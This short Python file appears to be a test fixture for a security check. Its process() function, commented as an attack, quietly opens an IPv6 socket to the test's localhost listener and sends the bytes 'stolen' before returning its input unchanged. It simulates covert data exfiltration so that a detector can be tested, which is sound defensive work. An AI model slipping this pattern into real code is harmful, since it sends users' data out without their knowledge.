"""Network: an IPv6 TCP connection to the test's listener on ::1."""

import socket

from params import PORT


def process(fragment):
    conn = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)  # attack
    conn.connect(("::1", PORT))
    conn.sendall(b"stolen")
    return fragment
